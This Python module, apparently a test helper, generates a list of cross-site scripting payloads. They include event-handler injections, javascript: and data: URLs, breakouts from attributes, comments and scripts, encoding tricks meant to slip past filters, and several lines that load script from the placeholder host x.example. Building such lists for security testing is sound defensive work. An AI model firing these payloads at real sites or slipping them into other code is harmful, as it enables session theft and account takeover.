"""Texts that make a careless page run somebody else's script.

Put together from the ways in that are publicly known: elements that run by themselves, handlers on
elements that load or move, addresses with a scheme of their own, breaking out of attributes,
comments and scripts, and encodings that a filter may miss.
"""

from __future__ import annotations

import os
from itertools import cycle, islice, product

EVERY = "EVERY_PAYLOAD" in os.environ
_CALLS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//x.example/a.js')")
_ELEMENTS = (
    ("svg", "onload"),
    ("img src=x", "onerror"),
    ("body", "onload"),
    ("video src=x", "onerror"),
    ("audio src=x", "onerror"),
    ("details open", "ontoggle"),
    ("input autofocus", "onfocus"),
    ("marquee", "onstart"),
    ("iframe", "onload"),
    ("object data=x", "onerror"),
    ("a href=x", "onmouseover"),
    ("style", "onload"),
    ("dialog open", "onfocusin"),
    ("p style=animation-name:x", "onanimationstart"),
    ("button autofocus", "onfocus"),
    ("select autofocus", "onfocus"),
)
_SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6a;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "\x01javascript:alert(1)",
)
_CARRIERS = (
    '<a href="{}">x</a>',
    '<iframe src="{}"></iframe>',
    '<form action="{}"><button>x</button></form>',
    '<svg><a xlink:href="{}"><text>x</text></a></svg>',
    '<embed src="{}">',
    '<meta http-equiv=refresh content="0;url={}">',
    "[x]({})",
)
_BREAKS = (
    '"',
    "'",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "`",
    "}}",
    "%}",
)
_ODD = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//x.example/a.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<base href=//x.example/>",
    "<style>@import '//x.example/a.css'</style>",
    "{{7*7}}{% load static %}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u202e<script>alert(1)</script>",
)


def payloads(*, every: bool = EVERY) -> list[str]:
    """Return texts of all kinds, each once.

    Without `every` each element has one call and each carrier one scheme; `make soak` has them all.
    """
    calls = list(product(_ELEMENTS, _CALLS))
    carried = list(product(_CARRIERS, _SCHEMES))
    if not every:
        calls = list(zip(_ELEMENTS, cycle(_CALLS), strict=False))
        longest = max(len(_CARRIERS), len(_SCHEMES))
        carried = list(islice(zip(cycle(_CARRIERS), cycle(_SCHEMES), strict=False), longest))
    texts = [f"<{e} {h}={c}>" for (e, h), c in calls]
    texts += [f"<{e}/{h.upper()}='{_CALLS[0]}'>" for e, h in _ELEMENTS]
    texts += [carrier.format(scheme) for carrier, scheme in carried]
    texts += [f"{b}<img src=x onerror=alert(1)>" for b in _BREAKS]
    texts += [f"{b}<svg/onload=alert(1)>" for b in _BREAKS]
    texts += [f"{b} onfocus=alert(1) autofocus {b}" for b in _BREAKS]
    texts += _ODD
    return list(dict.fromkeys(texts))
